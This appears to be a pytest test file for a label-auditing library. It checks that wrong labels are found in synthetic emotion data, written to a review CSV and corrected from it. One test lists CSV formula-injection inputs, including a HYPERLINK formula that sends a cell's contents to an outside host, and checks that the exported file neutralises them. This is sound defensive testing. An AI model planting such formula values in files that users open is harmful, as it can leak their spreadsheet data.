"""Wrong labels are found, written into a file, and corrected from it.

Tests of emoclf.audit.wrong_labels, emoclf.audit.quick_classifier,
emoclf.audit.corrections_file and emoclf.datasets.corrections.
"""

from __future__ import annotations

import csv
import random
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from emoclf import Audit, Dataset, audit_dataset
from emoclf.audit.corrections_file import write_corrections
from emoclf.audit.wrong_labels import LabelledText, WrongLabels
from emoclf.datasets.corrections import COLUMNS, correct_labels
from emoclf.errors import DataError, MissingDependency

WORDS = {
    "anger": "furious insulted unfair shouted annoyed rude".split(),
    "fear": "dark trembling alone threat scared panic".split(),
    "joy": "lovely won smiling gift laughing happy".split(),
}
FILLING = "river window morning letter music winter table doctor kitchen flower".split()
N_TEXTS = 240
FLIPPED = (5, 33, 60, 84, 100, 151)


def noisy(source: str = "data.csv") -> Dataset:
    """Return texts of three labels, of which six are wrong."""
    rng = random.Random(0)
    texts, labels = [], []
    for number in range(N_TEXTS):
        label = [*WORDS][number % 3]
        words = rng.sample(WORDS[label], 2) + rng.sample(FILLING, 5)
        texts.append(" ".join(words))
        labels.append([*WORDS][(number + (number in FLIPPED)) % 3])
    return Dataset.from_lists(texts, labels, source=source)


def several() -> Dataset:
    data = noisy()
    labels = [[x] if i % 2 else [x, "long"] for i, x in enumerate(data.labels)]
    texts = [t if i % 2 else f"{t} and so on and on" for i, t in enumerate(data.texts)]
    return Dataset.from_lists(texts, labels, source="data.csv")


@pytest.fixture(scope="module")
def audit() -> Audit:
    return audit_dataset(noisy(), wrong_labels=True, near_duplicates=1.0)


@pytest.fixture(scope="module")
def ranking(audit: Audit) -> WrongLabels:
    assert audit.wrong_labels is not None
    return audit.wrong_labels


@pytest.fixture(scope="module")
def ranking_of_several() -> WrongLabels:
    found = audit_dataset(several(), wrong_labels=True, near_duplicates=1.0)
    assert found.wrong_labels is not None
    return found.wrong_labels


def test_flipped_labels_come_first(ranking: WrongLabels) -> None:
    first = {int(one.place.split()[1]) for one in ranking.ranked[: len(FLIPPED)]}
    assert first == {*FLIPPED}
    assert 3 <= len(ranking.issues) < 12
    assert ranking.accuracy > 0.95
    assert len(ranking) == N_TEXTS


def test_the_ranking_as_table_and_lines(ranking: WrongLabels) -> None:
    frame = ranking.to_frame()
    assert len(frame) == N_TEXTS
    assert frame["is_label_issue"].sum() == len(ranking.issues)
    assert (frame["given_label"][:3] != frame["predicted_label"][:3]).all()
    n = len(ranking.issues)
    assert (np.diff(frame["label_score"][:n]) >= 0).all()
    assert len(ranking.to_dict()["issues"]) == n
    assert "probably" in ranking.lines()[1]


def test_a_finding_tells_of_wrong_labels(audit: Audit) -> None:
    assert [one.severity for one in audit.findings if one.name == "wrong-labels"] == [
        "note"
    ]
    assert "Labels that may be wrong" in "\n".join(audit.lines())


def test_several_labels(ranking_of_several: WrongLabels) -> None:
    first = {int(one.place.split()[1]) for one in ranking_of_several.ranked[:10]}
    assert first >= {*FLIPPED}
    assert isinstance(ranking_of_several.to_frame()["given_label"][0], tuple)


def test_too_little_to_learn_from() -> None:
    few = Dataset.from_lists(["so sad", "what a day", "hello"], ["x", "y", "y"])
    with pytest.raises(DataError, match=r"need at least 10 different texts. Got 3"):
        audit_dataset(few, wrong_labels=True)
    one = Dataset.from_lists([f"text number {i}" for i in range(30)], ["x"] * 30)
    with pytest.raises(DataError, match=r"at least two classes. Got 1: x"):
        audit_dataset(one, wrong_labels=True)


def test_texts_without_a_common_word() -> None:
    texts = [chr(0x4E00 + i) * 3 for i in range(40)]
    data = Dataset.from_lists(texts, ["x", "y"] * 20)
    found = audit_dataset(data, wrong_labels=True).wrong_labels
    assert found is not None
    assert np.isfinite(found.to_frame()["label_score"]).all()


def test_the_package_is_named_where_it_is_missing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "cleanlab.filter", None)
    with pytest.raises(MissingDependency, match=r"emoclf\[audit\]"):
        audit_dataset(noisy(), wrong_labels=True)


def filled(path: Path, fill: Callable[[dict[str, str]], str]) -> Path:
    """Fill in the last column of a file of corrections."""
    with open(path, encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    with open(path, "w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows({**row, "correct label": fill(row)} for row in rows)
    return path


def test_corrections_round_trip(ranking: WrongLabels, tmp_path: Path) -> None:
    path = write_corrections(ranking, tmp_path / "review.csv")
    with pytest.raises(DataError, match="exists already"):
        write_corrections(ranking, path)
    data = noisy()
    assert correct_labels([data], path) == [data]  # Nothing is filled in.
    flipped = {f"position {i}" for i in FLIPPED}
    filled(path, lambda row: row["suggested label"] * (row["place"] in flipped))
    (corrected,) = correct_labels([noisy("elsewhere/data.csv")], path)
    changed = [i for i in range(N_TEXTS) if corrected.labels[i] != data.labels[i]]
    assert len(changed) >= 3
    assert {*changed} <= {*FLIPPED}
    assert all(corrected.labels[i] == [*WORDS][i % 3] for i in changed)


def test_corrections_of_several_labels(
    ranking_of_several: WrongLabels, tmp_path: Path
) -> None:
    data = several()
    path = write_corrections(ranking_of_several, tmp_path / "review.csv")
    answers = iter(["joy, long", '["anger"]', "[]"])
    filled(path, lambda row: next(answers, ""))
    (corrected,) = correct_labels([data], path)
    first = [int(one.place.split()[1]) for one in ranking_of_several.ranked[:3]]
    labels = [corrected.labels[i] for i in first]
    assert labels == [("joy", "long"), ("anger",), ()]


FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''=1", "'tis", "'",
)  # fmt: skip


def formulas() -> tuple[Dataset, WrongLabels]:
    """Return texts and labels that a spreadsheet would run, all of them issues."""
    labels = ["-1", "+1"] * (len(FORMULAS) // 2)
    data = Dataset.from_lists(FORMULAS, labels, source="=data.csv")
    ranked = tuple(
        LabelledText(
            data.source, data.place(i), text, (label,), ("+1",), 0.9, 0.1, True
        )
        for i, (text, label) in enumerate(zip(FORMULAS, labels, strict=True))
    )
    return data, WrongLabels(ranked, accuracy=0.9, multilabel=False)


@pytest.mark.parametrize("keeps_apostrophes", [True, False])
def test_no_cell_is_a_formula_and_every_text_comes_back(
    tmp_path: Path, keeps_apostrophes: bool
) -> None:
    data, ranking = formulas()
    path = write_corrections(ranking, tmp_path / "review.csv")
    with open(path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))[1:]
    assert len(rows) == len(FORMULAS)
    first = {cell[0] for row in rows for cell in row if cell}
    assert not first & set("=+-@\t\r\n＝")
    if not keeps_apostrophes:
        # As an older emoclf wrote it, or a spreadsheet that takes them for its own.
        with open(path, "w", encoding="utf-8", newline="") as stream:
            plain = [[one.source, one.place, one.text, "", "", "", "", ""]
                     for one in ranking.issues]  # fmt: skip
            csv.writer(stream).writerows([COLUMNS, *plain])
    filled(path, lambda row: row["suggested label"] or "+1")
    (corrected,) = correct_labels([data], path)
    assert corrected.labels == ("+1",) * len(FORMULAS)


def test_corrections_that_do_not_fit(ranking: WrongLabels, tmp_path: Path) -> None:
    path = write_corrections(ranking, tmp_path / "review.csv")
    data = noisy()
    filled(path, lambda row: "jooy")
    with pytest.raises(DataError, match=r"line 2: .*'jooy'.*Did you mean 'joy'"):
        correct_labels([data], path)
    filled(path, lambda row: "joy")
    changed = Dataset(
        data.texts[::-1], data.labels, data.label_names, source="data.csv"
    )
    with pytest.raises(DataError, match=r"changed after the audit. Audit the file"):
        correct_labels([changed], path)
    with pytest.raises(DataError, match=r"'data.csv', but the files .* are other.csv"):
        correct_labels([noisy("other.csv")], path)
    other = tmp_path / "other.csv"
    other.write_text("text,label\na,b\n")
    with pytest.raises(DataError, match="has no column 'source'"):
        correct_labels([data], other)
    other.write_bytes(b"\xff\xfe\x00")
    with pytest.raises(DataError, match="CSV in UTF-8"):
        correct_labels([data], other)
